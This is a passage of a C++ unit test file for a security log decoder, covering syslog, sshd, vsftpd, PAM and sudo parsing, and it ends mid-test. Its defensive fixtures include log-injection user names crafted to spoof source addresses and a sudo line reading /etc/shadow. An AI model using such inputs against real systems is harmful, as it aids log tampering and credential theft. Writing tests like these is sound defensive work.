#include "rules/decoder.h"

#include <gtest/gtest.h>
#include <re2/re2.h>

#include <cctype>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <random>

#include "absl/strings/str_cat.h"
#include "absl/time/civil_time.h"
#include "absl/time/time.h"
#include "tests/rules/test_util.h"

namespace siper::rules {
namespace {

Event Decode(std::string_view line, InputFormat format = InputFormat::kAuto) {
  Event ev;
  absl::Status st = DecodeLine(line, "/var/log/test.log", format, &ev);
  EXPECT_TRUE(st.ok()) << st;
  return ev;
}

std::string F(const Event& ev, const std::string& key) {
  auto it = ev.fields.find(key);
  return it == ev.fields.end() ? "<absent>" : std::string(it->second);
}

bool Has(const LogSourceList& v, const std::string& s) {
  return std::find(v.begin(), v.end(), s) != v.end();
}

TEST(SyslogTest, Rfc3164WithoutYear) {
  Event ev =
      Decode("Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186");
  EXPECT_EQ(F(ev, "host.hostname"), "LabSZ");
  EXPECT_EQ(F(ev, "process.name"), "sshd");
  EXPECT_EQ(F(ev, "process.pid"), "24200");
  EXPECT_EQ(F(ev, "message"), "Invalid user webmaster from 173.234.31.186");
  EXPECT_NE(ev.time_unix_ns, 0);
  EXPECT_TRUE(Has(ev.products, "linux"));
  EXPECT_TRUE(Has(ev.services, "sshd"));
  EXPECT_TRUE(Has(ev.services, "auth"));
}

// A date without a year is this year's unless that puts it more than two days
// ahead of now: then it is last year's (a December line read in November).
TEST(SyslogTest, Rfc3164WithoutYearNeverFarInTheFuture) {
  const absl::Time now = absl::Now();
  for (int days_ahead : {-300, -40, -1, 0, 1, 5, 20, 45, 200}) {
    const absl::Time at = now + absl::Hours(24 * days_ahead);
    const std::string header = absl::FormatTime("%b %e %H:%M:%S", at, absl::UTCTimeZone());
    Event ev = Decode(header + " pc12 sshd[1]: Invalid user x from 192.0.2.1");
    const absl::Time decoded = absl::FromUnixNanos(ev.time_unix_ns);
    SCOPED_TRACE(::testing::Message() << header << " decoded as " << decoded);
    EXPECT_LE(decoded, now + absl::Hours(24 * 3));
    // The same day and time, one year apart at most, and the latest such that is not ahead.
    const absl::Duration behind = at - decoded;
    if (days_ahead <= 1) {
      EXPECT_LT(absl::AbsDuration(behind), absl::Seconds(1));
    } else {
      EXPECT_GE(behind, absl::Hours(24 * 364));
      EXPECT_LE(behind, absl::Hours(24 * 367));
    }
  }
}

TEST(SyslogTest, Rfc3164WithYearAndPriority) {
  Event ev = Decode(
      "<86>Nov 28 2026 10:00:01 web1 sudo: pam_unix(sudo:session): session closed for user root");
  EXPECT_EQ(F(ev, "@timestamp"), "2026-11-28T10:00:01Z");
  EXPECT_EQ(F(ev, "log.syslog.priority"), "86");
  EXPECT_EQ(F(ev, "log.syslog.facility.code"), "10");
  EXPECT_EQ(F(ev, "event.action"), "session_closed");
  Event ev2 = Decode("2026 Nov  3 10:00:01 web1 cron[5]: hello");
  EXPECT_EQ(F(ev2, "@timestamp"), "2026-11-03T10:00:01Z");
  EXPECT_EQ(F(ev2, "message"), "hello");
}

TEST(SyslogTest, RsyslogHighPrecisionTimestamp) {
  Event ev = Decode(
      "2026-11-28T10:00:01.123456+03:00 web1 sshd[77]: Connection closed by 192.0.2.1 port 22 "
      "[preauth]");
  EXPECT_EQ(F(ev, "@timestamp"), "2026-11-28T07:00:01.123456Z");
  EXPECT_EQ(F(ev, "source.ip"), "192.0.2.1");
  EXPECT_EQ(F(ev, "event.action"), "ssh_connection_closed");
}

// The syslog time is formatted by hand with the date cached per day: the
// result must be what absl gives for the same civil time (day overflow rolls
// over as absl::CivilSecond does), whatever order the days come in.
TEST(SyslogTest, TimestampSameAsAbslFormatTime) {
  static constexpr const char* kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                            "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
  std::mt19937 rng(7);
  for (int i = 0; i < 20000; ++i) {
    // Runs of lines on the same day, then a jump (forward or back).
    static int y = 2026, mo = 11, d = 28;
    if (i % 5 == 0) {
      y = 1700 + static_cast<int>(rng() % 551);
      mo = 1 + static_cast<int>(rng() % 12);
      d = 1 + static_cast<int>(rng() % 31);
    }
    const int h = static_cast<int>(rng() % 24), mi = static_cast<int>(rng() % 60),
              sec = static_cast<int>(rng() % 60);
    std::string frac;
    int64_t ns = 0;
    if (rng() % 3 == 0) {
      const int digits = 1 + static_cast<int>(rng() % 12);
      int64_t scale = 100000000;
      for (int k = 0; k < digits; ++k) {
        const int digit = static_cast<int>(rng() % 10);
        frac += static_cast<char>('0' + digit);
        ns += digit * scale;
        scale /= 10;
      }
      frac = "." + frac;
    }
    char line[160];
    std::snprintf(line, sizeof line, "%d %s %d %02d:%02d:%02d%s web1 cron[5]: hello", y,
                  kMonths[mo - 1], d, h, mi, sec, frac.c_str());
    const absl::Time t =
        absl::FromCivil(absl::CivilSecond(y, mo, d, h, mi, sec), absl::UTCTimeZone()) +
        absl::Nanoseconds(ns);
    const Event ev = Decode(line);
    ASSERT_EQ(F(ev, "@timestamp"), absl::FormatTime("%Y-%m-%dT%H:%M:%E*SZ", t, absl::UTCTimeZone()))
        << line;
    ASSERT_EQ(ev.time_unix_ns, absl::ToUnixNanos(t)) << line;
  }
  // RFC 3339 input with a zone goes through the same formatting.
  EXPECT_EQ(F(Decode("1999-12-31T23:59:59.5-01:00 h p: m"), "@timestamp"),
            "2000-01-01T00:59:59.5Z");
  // Dates outside 1700-2250 are dropped, not formatted.
  const Event old = Decode("1699 Dec 31 23:59:59 web1 cron[5]: hello");
  EXPECT_EQ(F(old, "@timestamp"), "<absent>");
  EXPECT_EQ(old.time_unix_ns, 0);
}

// The address check of SetSourceIp (source.ip when the peer looks like an IP
// address, source.domain otherwise) against the straightforward version it
// replaced.
bool ReferenceLooksLikeIp(std::string_view s) {
  if (s.empty() || s.size() > 45) return false;
  bool colon = false, dot = false;
  for (char c : s) {
    if (c == ':') {
      colon = true;
    } else if (c == '.') {
      dot = true;
    } else if (!std::isxdigit(static_cast<unsigned char>(c))) {
      return false;
    }
  }
  if (colon) return true;
  if (!dot) return false;
  int parts = 0;
  for (size_t start = 0; start <= s.size();) {
    size_t end = s.find('.', start);
    if (end == std::string_view::npos) end = s.size();
    const std::string_view p = s.substr(start, end - start);
    start = end + 1;
    if (p.empty() || p.size() > 3) return false;
    int v = 0;
    for (char c : p) {
      if (c < '0' || c > '9') return false;
      v = v * 10 + (c - '0');
    }
    if (v > 255) return false;
    ++parts;
  }
  return parts == 4;
}

TEST(SyslogTest, SourceIpOrDomainSameAsReference) {
  std::mt19937 rng(11);
  const std::string alphabet = "0123456789.:aF";
  std::vector<std::string> addrs = {"1.2.3.4",   "255.255.255.255", "256.1.1.1",  "1.2.3",
                                    "1.2.3.4.5", "01.002.3.4",      "1..3.4",     ".1.2.3",
                                    "1.2.3.",    "1.2.3.4a",        "::1",        "fe80::1",
                                    "a.b.c.d",   "1234.1.1.1",      "9999999999", "."};
  for (int i = 0; i < 20000; ++i) {
    std::string a;
    if (rng() % 2 == 0) {
      const int parts = 1 + static_cast<int>(rng() % 5);
      for (int k = 0; k < parts; ++k) {
        if (k > 0) a += '.';
        const int digits = static_cast<int>(rng() % 5);
        for (int j = 0; j < digits; ++j) a += static_cast<char>('0' + rng() % 10);
      }
      if (rng() % 8 == 0) a.insert(rng() % (a.size() + 1), 1, alphabet[rng() % alphabet.size()]);
    } else {
      const int n = 1 + static_cast<int>(rng() % 48);
      for (int j = 0; j < n; ++j) a += alphabet[rng() % alphabet.size()];
    }
    addrs.push_back(a);
  }
  for (const std::string& a : addrs) {
    if (a.empty()) continue;
    const Event ev = Decode("Dec 10 06:55:46 h sshd[1]: Invalid user u from " + a + " port 1");
    ASSERT_EQ(F(ev, "source.address"), a);
    const bool ip = ReferenceLooksLikeIp(a);
    ASSERT_EQ(F(ev, "source.ip"), ip ? a : "<absent>") << a;
    ASSERT_EQ(F(ev, "source.domain"), ip ? "<absent>" : a) << a;
  }
}

TEST(SyslogTest, ProgramWithPamModule) {
  Event ev = Decode(
      "Jun 15 02:04:59 combo sshd(pam_unix)[20882]: authentication failure; logname= uid=0 "
      "euid=0 tty=NODEVssh ruser= rhost=220-135-151-1.hinet-ip.hinet.net  user=root");
  EXPECT_EQ(F(ev, "process.name"), "sshd");
  EXPECT_EQ(F(ev, "log.syslog.module"), "pam_unix");
  EXPECT_EQ(F(ev, "process.pid"), "20882");
  EXPECT_EQ(F(ev, "event.action"), "pam_auth_failure");
  EXPECT_EQ(F(ev, "event.outcome"), "failure");
  EXPECT_EQ(F(ev, "user.name"), "root");
  EXPECT_EQ(F(ev, "source.domain"), "220-135-151-1.hinet-ip.hinet.net");
  EXPECT_EQ(F(ev, "source.ip"), "<absent>");
}

TEST(SyslogTest, NoColonAfterProgram) {
  Event ev = Decode("Jun  9 06:06:20 combo syslogd 1.4.1: restart.");
  EXPECT_EQ(F(ev, "process.name"), "syslogd");
  EXPECT_EQ(F(ev, "host.hostname"), "combo");
}

TEST(SyslogTest, Rfc5424WithStructuredData) {
  Event ev = Decode(
      "<165>1 2026-11-28T10:00:00.000Z host1 sshd 4242 ID47 [exampleSDID@32473 iut=\"3\" "
      "eventSource=\"App\\\"x\\]\"][meta a=\"b\"] \xEF\xBB\xBF"
      "Accepted password for bob from 192.0.2.7 port 2222 ssh2");
  EXPECT_EQ(F(ev, "host.hostname"), "host1");
  EXPECT_EQ(F(ev, "process.name"), "sshd");
  EXPECT_EQ(F(ev, "process.pid"), "4242");
  EXPECT_EQ(F(ev, "event.code"), "ID47");
  EXPECT_EQ(F(ev, "log.syslog.structured_data.exampleSDID@32473.iut"), "3");
  EXPECT_EQ(F(ev, "log.syslog.structured_data.exampleSDID@32473.eventSource"), "App\"x]");
  EXPECT_EQ(F(ev, "log.syslog.structured_data.meta.a"), "b");
  EXPECT_EQ(F(ev, "event.outcome"), "success");
  EXPECT_EQ(F(ev, "source.ip"), "192.0.2.7");
  EXPECT_EQ(F(ev, "@timestamp"), "2026-11-28T10:00:00Z");
}

TEST(SshdTest, FailedAndAccepted) {
  Event ev = Decode(
      "Dec 10 07:07:38 LabSZ sshd[24206]: Failed password for invalid user test9 from 52.80.34.196 "
      "port 36060 ssh2");
  EXPECT_EQ(F(ev, "event.action"), "ssh_login");
  EXPECT_EQ(F(ev, "event.outcome"), "failure");
  EXPECT_EQ(F(ev, "user.name"), "test9");
  EXPECT_EQ(F(ev, "user.invalid"), "true");
  EXPECT_EQ(F(ev, "source.ip"), "52.80.34.196");
  EXPECT_EQ(F(ev, "source.port"), "36060");
  EXPECT_EQ(F(ev, "ssh.method"), "password");
  Event ok = Decode(
      "Dec 10 09:32:20 LabSZ sshd[24680]: Accepted publickey for fztu from 2001:db8::1 port 49116 "
      "ssh2: RSA SHA256:xyz");
  EXPECT_EQ(F(ok, "event.outcome"), "success");
  EXPECT_EQ(F(ok, "ssh.method"), "publickey");
  EXPECT_EQ(F(ok, "source.ip"), "2001:db8::1");
  EXPECT_EQ(F(ok, "ssh.key"), "RSA SHA256:xyz");
}

TEST(SshdTest, InjectedUserNameKeepsRealPeer) {
  Event ev = Decode(
      "Nov 28 10:00:01 web1 sshd[811]: Failed password for invalid user x from 10.0.0.1 port 22 "
      "from 203.0.113.9 port 40022 ssh2");
  EXPECT_EQ(F(ev, "source.ip"), "203.0.113.9");
  EXPECT_EQ(F(ev, "source.port"), "40022");
  EXPECT_EQ(F(ev, "user.name"), "x from 10.0.0.1 port 22");
  Event inv = Decode(
      "Nov 28 10:00:01 web1 sshd[811]: Invalid user a from 10.0.0.1 from 198.51.100.1 port 5");
  EXPECT_EQ(F(inv, "source.ip"), "198.51.100.1");
  EXPECT_EQ(F(inv, "user.name"), "a from 10.0.0.1");
}

// Whatever an attacker types as the user name, the peer is what sshd, vsftpd
// or pam_unix wrote, and the failure is still decoded as one.
TEST(AuthDecoderTest, InjectedUserNameKeepsRealPeer) {
  struct Case {
    const char* line;
    const char* ip;
    const char* user;
  } cases[] = {
      {"Nov 28 10:00:01 web1 sshd[811]: Failed password for invalid user x from 10.0.0.1 port 22 "
       "ssh2 from 203.0.113.9 port 40022 ssh2",
       "203.0.113.9", "x from 10.0.0.1 port 22 ssh2"},
      {"Nov 28 10:00:01 web1 sshd[811]: Failed password for invalid user from 10.0.0.1 port 22 "
       "from 203.0.113.9 port 40022 ssh2",
       "203.0.113.9", "from 10.0.0.1 port 22"},
      {"Nov 28 10:00:01 web1 sshd[811]: message repeated 2 times: [ Failed password for invalid "
       "user x from 10.0.0.1 port 22 from 203.0.113.9 port 40022 ssh2]",
       "203.0.113.9", "x from 10.0.0.1 port 22"},
      {"Nov 28 10:00:01 web1 sshd[811]: Invalid user x from 10.0.0.1 port 22 from 203.0.113.9 "
       "port 40022",
       "203.0.113.9", "x from 10.0.0.1 port 22"},
      {"Nov 28 10:00:01 web1 sshd[811]: error: maximum authentication attempts exceeded for "
       "invalid user x from 10.0.0.1 port 22 from 203.0.113.9 port 40022 ssh2 [preauth]",
       "203.0.113.9", "x from 10.0.0.1 port 22"},
      {"Nov 28 10:00:01 web1 sshd[811]: Connection closed by invalid user x 10.0.0.1 port 22 "
       "203.0.113.9 port 40022 [preauth]",
       "203.0.113.9", "x 10.0.0.1 port 22"},
      {"Nov 28 10:00:01 web1 sshd[811]: Disconnected from invalid user x 10.0.0.1 port 22 "
       "203.0.113.9 port 40022 [preauth]",
       "203.0.113.9", "x 10.0.0.1 port 22"},
      // vsftpd brackets the user name: a "]" inside it must not hide the failure.
      {"Nov 28 10:50:00 web1 vsftpd[6000]: [pid 6001] [x] FAIL LOGIN: Client \"10.0.0.1\"] "
       "FAIL LOGIN: Client \"::ffff:203.0.113.9\"",
       "203.0.113.9", "x] FAIL LOGIN: Client \"10.0.0.1\""},
      // pam_unix puts the user last: a "rhost=" inside it is not the peer.
      {"Nov 28 10:50:01 web1 vsftpd[6001]: pam_unix(vsftpd:auth): authentication failure; "
       "logname= uid=0 euid=0 tty=ftp ruser=x rhost=203.0.113.9  user=x rhost=10.0.0.1",
       "203.0.113.9", "x rhost=10.0.0.1"},
  };
  for (const Case& c : cases) {
    Event ev = Decode(c.line);
    EXPECT_EQ(F(ev, "source.ip"), c.ip) << c.line;
    EXPECT_EQ(F(ev, "user.name"), c.user) << c.line;
  }
  // The fallback for vsftpd does not let a crafted file name turn an upload
  // into a login from another address.
  Event up = Decode(
      "Nov 28 10:50:00 web1 vsftpd[6000]: [pid 6001] [bob] OK UPLOAD: Client \"192.0.2.5\", "
      "\"/a] OK LOGIN: Client \"10.0.0.1\"\", 12 bytes, 1.20Kbyte/sec");
  EXPECT_EQ(F(up, "event.action"), "ftp_upload");
  EXPECT_EQ(F(up, "user.name"), "bob");
  EXPECT_EQ(F(up, "source.ip"), "192.0.2.5");
}

TEST(SshdTest, OtherMessages) {
  Event ev = Decode(
      "Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for "
      "ns.marryaldkfaczcz.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!");
  EXPECT_EQ(F(ev, "event.action"), "ssh_reverse_mapping_failed");
  EXPECT_EQ(F(ev, "source.ip"), "173.234.31.186");
  EXPECT_EQ(F(ev, "source.domain"), "ns.marryaldkfaczcz.com");
  Event d = Decode(
      "Dec 10 09:11:46 LabSZ sshd[24463]: Received disconnect from 112.95.230.3: 11: Bye Bye "
      "[preauth]");
  EXPECT_EQ(F(d, "event.action"), "ssh_disconnect");
  EXPECT_EQ(F(d, "source.ip"), "112.95.230.3");
  EXPECT_EQ(F(d, "ssh.disconnect_code"), "11");
  Event p = Decode(
      "Dec 10 09:12:44 LabSZ sshd[24501]: PAM 5 more authentication failures; logname= uid=0 "
      "euid=0 tty=ssh ruser= rhost=183.62.140.253  user=root");
  EXPECT_EQ(F(p, "event.action"), "pam_auth_failure");
  EXPECT_EQ(F(p, "source.ip"), "183.62.140.253");
  EXPECT_EQ(F(p, "event.repeat_count"), "5");
  Event n = Decode(
      "Dec 10 10:00:00 LabSZ sshd[1]: Did not receive identification string from 5.188.10.180");
  EXPECT_EQ(F(n, "source.ip"), "5.188.10.180");
}

// sshd's common forms and the ftpd connection line are parsed by hand for
// speed; they must give exactly what their RE2 patterns give. The patterns
// below are copied from decoder.cc; the messages are edge cases, mutations of
// them, and every line of ../shared/data/logs when the shared data is there.
struct Re2Twin {
  std::unique_ptr<RE2> login = std::make_unique<RE2>(
      R"(((?:Failed|Accepted)) (\S+) for (invalid user )?(.*) from ([0-9A-Fa-f:.]+) port (\d+)(?: (ssh\d?))?(?:: (.*))?)");
  std::unique_ptr<RE2> disconnect = std::make_unique<RE2>(
      R"((?:error: )?Received disconnect from ([0-9A-Fa-f:.]+)(?: port (\d+))?: ?(\d+): (.*?)(?: \[preauth\])?)");
  std::unique_ptr<RE2> ftp =
      std::make_unique<RE2>(R"(connection from ([0-9A-Fa-f:.]+)(?: \(([^)]*)\))?(?: at .*)?\s*)");
  std::unique_ptr<RE2> invalid =
      std::make_unique<RE2>(R"(Invalid user (.*) from ([0-9A-Fa-f:.]+)(?: port (\d+))?)");
  std::unique_ptr<RE2> invalid_preauth =
      std::make_unique<RE2>(R"(input_userauth_request: invalid user (.*) \[preauth\])");
  std::unique_ptr<RE2> reverse = std::make_unique<RE2>(
      R"(reverse mapping checking getaddrinfo for (\S+) \[([0-9A-Fa-f:.]+)\] failed(?: - POSSIBLE BREAK-IN ATTEMPT!)?)");
  std::unique_ptr<RE2> addr_map = std::make_unique<RE2>(
      R"(Address ([0-9A-Fa-f:.]+) maps to (\S+), but this does not map back to the address(?: - POSSIBLE BREAK-IN ATTEMPT!)?)");
  std::unique_ptr<RE2> closed = std::make_unique<RE2>(
      R"(Connection (?:closed|reset) by (?:(?:authenticating|invalid) user (.*) )?([0-9A-Fa-f:.]*[.:][0-9A-Fa-f:.]*)(?: port (\d+))?(?: \[preauth\])?)");

  // The fields DecodeSshd / DecodeFtp must set for `msg`, or none.
  std::map<std::string, std::string> Expect(std::string_view msg) const {
    std::map<std::string, std::string> out;
    std::string a, b, c, d, e, f, g, h;
    if (RE2::FullMatch(msg, *login, &a, &b, &c, &d, &e, &f, &g, &h)) {
      out = {{"event.action", "ssh_login"},
             {"ssh.method", b},
             {"user.name", d},
             {"source.address", e},
             {"source.port", f}};
      if (!c.empty()) out["user.invalid"] = "true";
      if (!h.empty()) out["ssh.key"] = h;
    } else if (RE2::FullMatch(msg, *invalid, &a, &b, &c)) {
      out = {{"event.action", "ssh_invalid_user"},
             {"user.name", a},
             {"user.invalid", "true"},
             {"source.address", b}};
      if (!c.empty()) out["source.port"] = c;
    } else if (RE2::FullMatch(msg, *invalid_preauth, &a)) {
      out = {
          {"event.action", "ssh_invalid_user_request"}, {"user.name", a}, {"user.invalid", "true"}};
    } else if (RE2::FullMatch(msg, *reverse, &a, &b)) {
      out = {{"event.action", "ssh_reverse_mapping_failed"},
             {"source.domain", a},
             {"source.ip", b},
             {"source.address", b}};
    } else if (RE2::FullMatch(msg, *addr_map, &a, &b)) {
      out = {{"event.action", "ssh_reverse_mapping_failed"},
             {"source.ip", a},
             {"source.address", a},
             {"source.domain", b}};
    } else if (RE2::FullMatch(msg, *disconnect, &a, &b, &c, &d)) {
      out = {{"event.action", "ssh_disconnect"},
             {"source.address", a},
             {"ssh.disconnect_code", c},
             {"event.reason", d}};
      if (!b.empty()) out["source.port"] = b;
    } else if (RE2::FullMatch(msg, *closed, &a, &b, &c)) {
      out = {{"event.action", "ssh_connection_closed"}, {"source.address", b}};
      if (!a.empty()) out["user.name"] = a;
      if (!c.empty()) out["source.port"] = c;
    } else if (RE2::FullMatch(msg, *ftp, &a, &b)) {
      out = {{"event.action", "ftp_connection"}, {"source.address", a}};
      if (!b.empty()) out["source.domain"] = b;
    }
    return out;
  }
};

void ExpectSameAsRe2(const Re2Twin& twin, const std::string& msg) {
  const std::map<std::string, std::string> want = twin.Expect(msg);
  Event ev;
  const bool took = msg.starts_with("connection from") ? DecodeFtp(msg, &ev) : DecodeSshd(msg, &ev);
  const std::string action = F(ev, "event.action");
  if (want.empty()) {
    for (const char* hand :
         {"ssh_login", "ssh_disconnect", "ftp_connection", "ssh_invalid_user",
          "ssh_invalid_user_request", "ssh_reverse_mapping_failed", "ssh_connection_closed"}) {
      EXPECT_NE(action, hand) << "RE2 does not match, the decoder took it: " << msg;
    }
    return;
  }
  EXPECT_TRUE(took) << msg;
  for (const auto& [k, v] : want) EXPECT_EQ(F(ev, k), v) << k << " of " << msg;
  for (const char* k : {"user.invalid", "ssh.key", "source.port", "user.name"}) {
    if (want.count(k) == 0 && action != "ftp_connection") {
      EXPECT_EQ(F(ev, k), "<absent>") << k << " of " << msg;
    }
  }
}

TEST(HandParserTest, SameAsTheRe2Patterns) {
  const Re2Twin twin;
  const std::vector<std::string> seeds = {
      "Failed password for root from 1.2.3.4 port 22 ssh2",
      "Failed password for invalid user admin from 1.2.3.4 port 22 ssh2",
      "Accepted publickey for bob from 2001:db8::1 port 4 ssh2: RSA SHA256:x from 9.9.9.9 port 1",
      "Failed password for invalid user  from 1.2.3.4 port 22",
      "Failed password for invalid user from 1.2.3.4 port 22",
      "Failed none for x from 1.2.3.4 port 22 from 5.6.7.8 port 23 ssh",
      "Failed password for a from b from 1.2.3.4 port 22 sshX",
      "Failed password for root from 1.2.3.4 port 22 ssh22",
      "Failed password for root from 1.2.3.4 port 22 ssh2:",
      "Failed password for root from 1.2.3.4 port 22: ",
      "Failed\tpassword for root from 1.2.3.4 port 22",
      "Failed pass\tword for root from 1.2.3.4 port 22",
      "Accepted password for r\xc3\xa9mi from 1.2.3.4 port 22 ssh2",
      "Failed password for root from 1.2.3.4 port 22 ssh2\nx",
      "Received disconnect from 1.2.3.4: 11: Bye Bye [preauth]",
      "Received disconnect from 1.2.3.4 port 22:11: disconnected by user",
      "error: Received disconnect from 1.2.3.4 port 22:3: com.jcraft.jsch.JSchException: Auth "
      "fail [preauth]",
      "Received disconnect from ::1: 11: Bye",
      "Received disconnect from 1.2.3.4:11: 12: x [preauth] [preauth]",
      "Received disconnect from 1.2.3.4 port 22: 11: ",
      "Received disconnect from 1.2.3.4 port : 11: x",
      "Received disconnect from : 11: x",
      "Received disconnect from 1.2.3.4: 11: caf\xc3\xa9 [preauth]",
      "connection from 24.54.76.216 (24-54-76-216.bflony.adelphia.net) at Fri Jun 17 2005 ",
      "connection from 24.54.76.216 () at x",
      "connection from 24.54.76.216 (a) b",
      "connection from 24.54.76.216 (a",
      "connection from 24.54.76.216 \t ",
      "connection from 24.54.76.216 (h\xc3\xa9) at x",
      "connection from 24.54.76.216x",
      "connection from  (x)",
      "Invalid user admin from 187.141.143.180",
      "Invalid user admin from 187.141.143.180 port 58012",
      "Invalid user  from 1.2.3.4 port 22",
      "Invalid user from 1.2.3.4",
      "Invalid user x from 10.0.0.1 port 22 from 2001:db8::7 port 40022",
      "Invalid user x from 10.0.0.1 port 22 from host.example port 1",
      "Invalid user x from 10.0.0.1 port 22x",
      "Invalid user x from 1.2.3.4 port ",
      "Invalid user x from 1.2.3.4 ",
      "Invalid user x from ::1",
      "Invalid user r\xc3\xa9mi from 1.2.3.4",
      "Invalid user \xff\xfe from 1.2.3.4 port 5",
      "Invalid user a\nb from 1.2.3.4",
      "input_userauth_request: invalid user test9 [preauth]",
      "input_userauth_request: invalid user  [preauth]",
      "input_userauth_request: invalid user [preauth]",
      "input_userauth_request: invalid user x [preauth] [preauth]",
      "input_userauth_request: invalid user x from 10.0.0.1 port 22 [preauth]",
      "input_userauth_request: invalid user x [preauth]x",
      "input_userauth_request: invalid user \xc0\xaf [preauth]",
      "reverse mapping checking getaddrinfo for ns.example.com [173.234.31.186] failed - POSSIBLE "
      "BREAK-IN ATTEMPT!",
      "reverse mapping checking getaddrinfo for h [2001:db8::1] failed",
      "reverse mapping checking getaddrinfo for h [1.2.3.4] failed - POSSIBLE BREAK-IN ATTEMPT",
      "reverse mapping checking getaddrinfo for h  [1.2.3.4] failed",
      "reverse mapping checking getaddrinfo for h\t[1.2.3.4] failed",
      "reverse mapping checking getaddrinfo for [1.2.3.4] [1.2.3.4] failed",
      "reverse mapping checking getaddrinfo for h [1.2.3.4x] failed",
      "reverse mapping checking getaddrinfo for h\xc3\xa9 [1.2.3.4] failed",
      "Address 1.2.3.4 maps to h, but this does not map back to the address - POSSIBLE BREAK-IN "
      "ATTEMPT!",
      "Connection closed by 1.2.3.4 [preauth]",
      "Connection closed by 1.2.3.4",
      "Connection reset by 1.2.3.4 port 22",
      "Connection closed by 1.2.3.4 port 22 [preauth]",
      "Connection closed by authenticating user root 1.2.3.4 port 22 [preauth]",
      "Connection closed by invalid user x from 10.0.0.1 port 22 2001:db8::2 port 40022 [preauth]",
      "Connection closed by invalid user  1.2.3.4 port 22",
      "Connection closed by invalid user 1.2.3.4 port 22",
      "Connection closed by invalid user a b 1.2.3.4 port 22 [preauth] [preauth]",
      "Connection closed by 1234 port 22",
      "Connection closed by user 12:34 port 22",
      "Connection closed by 1.2.3.4 port [preauth]",
      "Connection closed by 1.2.3.4 port 22 [preauth]x",
      "Connection closed by invalid user r\xc3\xa9mi 1.2.3.4 port 22",
  };
  // A very long line: a user name of 64 KiB holding " from 10.0.0.1 port 22" many times.
  std::string long_user;
  while (long_user.size() < 65536) long_user += "a from 10.0.0.1 port 22 ";
  for (const std::string& s : {"Invalid user " + long_user + "from 198.51.100.7 port 1",
                               "input_userauth_request: invalid user " + long_user + "[preauth]",
                               "Connection closed by invalid user " + long_user + "1.2.3.4",
                               "Failed password for " + long_user + "from 1.2.3.4 port 2 ssh2"}) {
    ExpectSameAsRe2(twin, s);
  }
  for (const std::string& s : seeds) ExpectSameAsRe2(twin, s);
  // Mutations: insert or delete the pieces the patterns turn on.
  const std::vector<std::string> pieces = {
      " from ", " port ",        ":",    " ",          "1",        "a",
      ".",      " ssh2",         ": ",   " [preauth]", "(",        ")",
      " at ",   "invalid user ", "\t",   "\n",         "\xc3\xa9", "[",
      "]",      " failed",       "\xff", "user ",      "::"};
  std::mt19937 rng(42);
  for (int i = 0; i < 40000; ++i) {
    std::string m = seeds[rng() % seeds.size()];
    const int edits = 1 + static_cast<int>(rng() % 3);
    for (int k = 0; k < edits && !m.empty(); ++k) {
      const size_t at = rng() % (m.size() + 1);
      if (rng() % 3 == 0) {
        m.erase(at, 1 + rng() % 4);
      } else {
        m.insert(at, pieces[rng() % pieces.size()]);
      }
    }
    ExpectSameAsRe2(twin, m);
    if (::testing::Test::HasFailure()) return;
  }
}

TEST(HandParserTest, SameAsTheRe2PatternsOnLoghub) {
  SIPER_REQUIRE_SHARED("logs/loghub/OpenSSH_2k.log");
  const Re2Twin twin;
  int checked = 0;
  std::map<std::string, int> by_action;
  // Every text line under logs/ (JSON lines have no syslog message).
  std::vector<std::filesystem::path> files;
  for (const auto& e :
       std::filesystem::recursive_directory_iterator(testing::SharedData() / "logs")) {
    if (e.is_regular_file()) files.push_back(e.path());
  }
  std::sort(files.begin(), files.end());
  for (const auto& file : files) {
    std::ifstream in(file);
    std::string line;
    while (std::getline(in, line)) {
      Event ev;
      ASSERT_TRUE(DecodeLine(line, "", InputFormat::kAuto, &ev).ok());
      const std::string program = F(ev, "process.name");
      if (program != "sshd" && program != "ftpd") continue;
      if (ev.fields.count("log.syslog.module") > 0) continue;  // sshd(pam_unix): PAM decoder
      // "message repeated N times: [ ... ]" is unwrapped before the patterns run.
      if (F(ev, "message").starts_with("message repeated ")) continue;
      ExpectSameAsRe2(twin, F(ev, "message"));
      ++by_action[twin.Expect(F(ev, "message"))["event.action"]];
      ++checked;
    }
  }
  EXPECT_GT(checked, 2500);
  // Each hand parser met real lines.
  for (const char* action :
       {"ssh_login", "ssh_disconnect", "ftp_connection", "ssh_invalid_user",
        "ssh_invalid_user_request", "ssh_reverse_mapping_failed", "ssh_connection_closed"}) {
    EXPECT_GT(by_action[action], 10) << action;
  }
}

TEST(SudoTest, CommandAndFailures) {
  Event ev = Decode(
      "Nov 28 10:20:00 web1 sudo:  www-data : TTY=pts/1 ; PWD=/var/www ; USER=root ; "
      "COMMAND=/bin/bash -c id ; echo");
  EXPECT_EQ(F(ev, "user.name"), "www-data");
  EXPECT_EQ(F(ev, "user.target.name"), "root");
  EXPECT_EQ(F(ev, "process.tty.name"), "pts/1");
  EXPECT_EQ(F(ev, "process.working_directory"), "/var/www");
  EXPECT_EQ(F(ev, "process.command_line"), "/bin/bash -c id ; echo");
  EXPECT_EQ(F(ev, "process.executable"), "/bin/bash");
  EXPECT_EQ(F(ev, "event.action"), "sudo_command");
  EXPECT_EQ(F(ev, "event.outcome"), "success");
  Event no = Decode(
      "Nov 28 10:21:00 web1 sudo: www-data : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; "
      "USER=root ; COMMAND=/bin/cat /etc/shadow");
  EXPECT_EQ(F(no, "event.outcome"), "failure");
  EXPECT_EQ(F(no, "event.reason"), "user NOT in sudoers");
  Event pw = Decode(
      "Nov 28 10:22:00 web1 sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; "
      "PWD=/home/alice ; USER=root ; COMMAND=/bin/ls");
  EXPECT_EQ(F(pw, "event.action"), "sudo_auth_failure");
}

TEST(SuTest, Forms) {
  Event a = Decode("Nov 28 10:10:00 web1 su[2001]: FAILED SU (to root) www-data on pts/1");
  EXPECT_EQ(F(a, "event.outcome"), "failure");
  EXPECT_EQ(F(a, "user.name"), "www-data");
  EXPECT_EQ(F(a, "user.target.name"), "root");
  Event b = Decode(
      "Jun 15 12:12:34 combo su(pam_unix)[2345]: authentication failure; logname=alice uid=500 "
